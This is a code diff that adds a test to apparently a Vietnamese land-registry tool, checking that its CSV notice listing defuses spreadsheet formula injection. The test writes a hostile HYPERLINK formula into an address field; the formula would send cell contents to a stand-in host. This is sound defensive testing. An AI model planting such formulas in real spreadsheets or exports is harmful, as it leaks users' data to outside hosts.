@@ -447,3 +447,19 @@ def test_a_citizens_photo_proves_nothing_of_certificates_or_of_others(
         scans = ws.con.execute("SELECT count(*) FROM evidence_certificate").fetchone()
     assert answered.photo is not None and answered.photo.linked == []
     assert links == [] and scans == (0,)
+
+
+def test_the_list_of_notices_holds_no_formula(built_workspace: Path, tmp_path: Path) -> None:
+    path = tmp_path / "ws.duckdb"
+    path.write_bytes(built_workspace.read_bytes())
+    with api.open_workspace(path) as ws:
+        party, commune = ws.con.execute(
+            "SELECT party_id, unit_code FROM party_commune ORDER BY 2, 1 LIMIT 1"
+        ).fetchone()
+        hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
+        ws.con.execute("UPDATE party SET address = ? WHERE party_id = ?", [hostile, party])
+        issued = api.issue_notices(ws, commune, tmp_path / "o", by="t", url=URL, only=[party])
+    assert issued.listing is not None
+    with open(issued.listing, encoding="utf-8-sig") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["Địa chỉ"] == "'" + hostile  # text, never a formula, in Excel
